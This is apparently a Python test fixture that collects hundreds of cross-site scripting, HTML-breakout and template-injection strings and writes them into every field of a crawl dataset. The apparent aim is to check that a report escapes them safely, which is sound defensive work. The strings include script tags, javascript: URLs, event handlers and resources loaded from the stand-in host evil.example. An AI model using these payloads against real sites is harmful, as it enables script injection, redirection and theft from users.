"""Texts that try to become markup, script or style: the known ways out of each place of a page."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any, Final

from analysis.report.text import visible
from support import ranked

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

PWN: Final = "window.pwned=1"
AWAY: Final = "https://evil.example/"

_HANDLERS = (
    "onabort", "onafterprint", "onanimationend", "onanimationiteration", "onanimationstart",
    "onauxclick", "onbeforecopy", "onbeforecut", "onbeforeinput", "onbeforeprint",
    "onbeforetoggle", "onbeforeunload", "onblur", "oncanplay", "onchange", "onclick", "onclose",
    "oncontextmenu", "oncopy", "oncut", "ondblclick", "ondrag", "ondragend", "ondragenter",
    "ondragstart", "ondrop", "onended", "onerror", "onfocus", "onfocusin", "onfocusout",
    "onformdata", "onfullscreenchange", "ongotpointercapture", "onhashchange", "oninput",
    "oninvalid", "onkeydown", "onkeypress", "onkeyup", "onload", "onloadeddata", "onloadstart",
    "onmessage", "onmousedown", "onmouseenter", "onmouseleave", "onmousemove", "onmouseout",
    "onmouseover", "onmouseup", "onmousewheel", "onpagehide", "onpageshow", "onpaste", "onplay",
    "onpointerdown", "onpointerenter", "onpointerleave", "onpointermove", "onpointerover",
    "onpointerup", "onpopstate", "onprogress", "onratechange", "onreset", "onresize",
    "onscroll", "onscrollend", "onsearch", "onseeked", "onselect", "onselectionchange",
    "onselectstart", "onstorage", "onsubmit", "onsuspend", "ontimeupdate", "ontoggle",
    "ontouchend", "ontouchmove", "ontouchstart", "ontransitionend", "onunload",
    "onvolumechange", "onwheel",
)  # fmt: skip
_ELEMENTS = (
    "a", "audio", "body", "button", "details", "div", "form", "iframe", "img", "input", "marquee",
    "object", "select", "svg", "textarea", "video", "xss",
)  # fmt: skip
_BREAKOUTS = (
    "", '"', "'", "`", "\">", "'>", "-->", "--!>", "]]>", "</title>", "</style>", "</script>",
    "</textarea>", "</noscript>", "</table>", "</svg>", "</select>", "</template>", "</xmp>", "\\", "\\\"",
    "&quot;", "&#34;", "&#x27;>", "{{", "{%", "${", "<!--", "<![CDATA[", "/>", "\n", "\t", "\x00", "\x0c",
    "\u2028", "\ufeff", "+ADw-", "\xbc", "\u02ba", "\uff1c",
)  # fmt: skip
_URLS = (
    f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f" javascript:{PWN}", f"java\tscript:{PWN}",
    f"java\nscript:{PWN}", f"\x01javascript:{PWN}", f"javascript&colon;{PWN}", f"&#106;avascript:{PWN}",
    f"javascript://a.example/%0a{PWN}", f"vbscript:{PWN}", f"data:text/html,<script>{PWN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=1>",
    "//evil.example/x", "\\\\evil.example\\x", AWAY, "https:evil.example", "view-source:x", "file:///etc",
    f"http://a.example/<script>{PWN}</script>", f"http://a.example/\" onclick=\"{PWN}",
    f"http://<img src=x onerror={PWN}>.example/", "blob:https://evil.example/1", "filesystem:x",
)  # fmt: skip
_WHOLE = (
    f"<script>{PWN}</script>", f"<SCRIPT SRC={AWAY}x.js></SCRIPT>", f"<script/x>{PWN}</script>",
    f"<<script>{PWN}//<</script>", f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"<script type=module>{PWN}</script>", f"<svg><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>", f"<svg><set onbegin={PWN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{PWN}</script></svg>#x'>",
    f"<svg><foreignObject><img src=x onerror={PWN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={PWN}&gt;\">",
    f"<math href=javascript:{PWN}>x</math>", f"<isindex type=image src=1 onerror={PWN}>",
    f"<img src=x:x onerror={PWN}>", f"<img src={AWAY}x.png>", f"<img srcset='{AWAY}x 1x'>",
    f"<picture><source srcset={AWAY}x><img></picture>", f"<video poster={AWAY}x>", f"<audio src={AWAY}x autoplay>",
    f"<body background={AWAY}x>", f"<table background={AWAY}x>", f"<input type=image src={AWAY}x>",
    f"<link rel=stylesheet href={AWAY}x.css>", f"<link rel=prefetch href={AWAY}>", f"<link rel=preload as=script href={AWAY}x>",
    f"<link rel=dns-prefetch href={AWAY}>", f"<link rel=modulepreload href={AWAY}x>", f"<base href={AWAY}>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">', '<meta http-equiv=Content-Security-Policy content="default-src *">',
    f"<style>@import '{AWAY}x.css';</style>", f"<style>*{{background:url({AWAY}x)}}</style>",
    f"<div style=background:url({AWAY}x)>x</div>", f"<p style='x:expression({PWN})'>", "<style>body{display:none}",
    f"<iframe src={AWAY}></iframe>", f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    f"<frameset><frame src={AWAY}></frameset>", f"<object data={AWAY}x></object>", f"<embed src={AWAY}x>",
    f"<applet code=x codebase={AWAY}></applet>", f"<portal src={AWAY}>", f"<form action={AWAY}><input name=q autofocus></form>",
    f"<button formaction=javascript:{PWN}>x</button>", f"<a href=javascript:{PWN} autofocus>x</a>",
    f"<a href={AWAY} ping={AWAY}>x</a>", "<template shadowrootmode=open><slot></slot></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">", f"<xmp><p title=\"</xmp><img src=x onerror={PWN}>\">",
    "<plaintext>", "<!-- unclosed", "<![CDATA[ unclosed", "<?xml version='1.0'?>", "<!doctype x [<!ENTITY a 'b'>]>", "</",
    "<a", "<a b=\"", "<table><tr><td><table>", "</main></body></html>", "<select><option></select><b>", "<b><i></b></i>",
    f"&lt;script&gt;{PWN}&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "{{ 7 * 7 }}{% for x in figures %}", "{{ self.__init__.__globals__ }}", "{# c #}", "{{''.__class__.__mro__}}", "${7*7}", "#{7*7}",
    "__proto__", "constructor", "<wbr>.<wbr>", "a.b.c<script>.example", "id=ranking-table", "ranking-table",
    "\u202e<script>\u2066", "<\u200bscript>", "<scr\x00ipt>", "\uff1cscript\uff1e", "x" * 3000,
)  # fmt: skip

VECTORS: Final = tuple(
    dict.fromkeys(
        [
            *_WHOLE,
            *_URLS,
            *(f"<{_ELEMENTS[n % len(_ELEMENTS)]} {name}={PWN} autofocus tabindex=1 src=x>x"
              for n, name in enumerate(_HANDLERS)),
            *(f'" {name}="{PWN}" x="' for name in _HANDLERS[::3]),
            *(f"' {name}='{PWN}" for name in _HANDLERS[1::3]),
            *(f"{out}<img src=x onerror={PWN}>" for out in _BREAKOUTS),
            *(f"{out}<script>{PWN}</script>" for out in _BREAKOUTS),
        ]
    )
)  # fmt: skip
"""All of them, each once."""


def tame(text: str) -> str:
    """A harmless text that looks as long as ``text`` in the report, with its dots."""
    return re.sub(r"[^.]", "a", str(visible(text)))


def write_with(folder: Path, texts: Sequence[str], **manifest: Any) -> Path:
    """Write a ranked dataset that holds ``texts`` wherever text can stand; return its folder."""
    first, *others = texts
    return ranked.write_dataset(
        folder,
        domains=[
            ranked.domain(text, rank, authority=50.0, ref_domains=rank, authority_method=first,
                          icann_domain=text, domain_rev=text)
            for rank, text in enumerate(texts, start=1)
        ],
        edges=[ranked.edge(first, text, top_anchor=text) for text in others],
        links=[
            ranked.link(first, text, anchor=text, rel=text, heading=text, text_before=text)
            for text in others
        ],
        pages=[
            ranked.page(text, text, outcome, text, title=text, canonical=text, redirect_to=text,
                        content_type=text, lang=text, charset=text)
            for number, text in enumerate(texts)
            for outcome in [("failed", "not_html", "http_error", "robots")[number % 4]]
        ],
        **{
            "seeds": list(texts),
            "arguments": {f"{number} {text}": [text] for number, text in enumerate(texts)},
            "versions": {f"{number} {text}": text for number, text in enumerate(texts)},
            "crawl_id": others[1], "suffix_list": first, "state": others[2],
            "finish_reason": others[0], **manifest,
        },
    )  # fmt: skip
